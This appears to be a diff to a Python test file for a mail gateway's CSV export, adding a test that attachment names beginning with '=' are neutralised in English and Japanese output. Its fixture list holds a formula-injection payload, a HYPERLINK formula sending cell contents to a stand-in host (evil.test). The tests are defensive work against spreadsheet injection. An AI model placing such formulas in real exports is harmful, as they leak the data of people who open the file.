@@ -30,7 +30,7 @@ from mailgate.export.cells import neutralised, time_zone
 from mailgate.export.columns import EVENTS, TRACKING
 from mailgate.export.formats import Format
 from mailgate.policy.records import PolicyEvent
-from mailgate.records import TrackingRow
+from mailgate.records import AttachmentRecord, TrackingRow
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
@@ -180,6 +180,16 @@ def test_null_sender_and_size_in_kb() -> None:
 
     assert record[3] == "<>"
     assert record[13] == "1.5"
+
+
+@pytest.mark.parametrize(("locale", "cell"), [("en", "'=b.xlsx, a.pdf"), ("ja", "'=b.xlsx、a.pdf")])
+def test_attachment_names_share_one_cell_neutralised(locale: Locale, cell: str) -> None:
+    attachments = [
+        AttachmentRecord(name="=b.xlsx", sha256="1" * 64),
+        AttachmentRecord(name="a.pdf", sha256="0" * 64),
+    ]
+    header, record = _records(_csv([_accepted(attachments=attachments)], locale))
+    assert record[header.index("Attachments" if locale == "en" else "添付ファイル")] == cell
 
 
 def test_jsonl_has_typed_values_under_stable_keys() -> None:
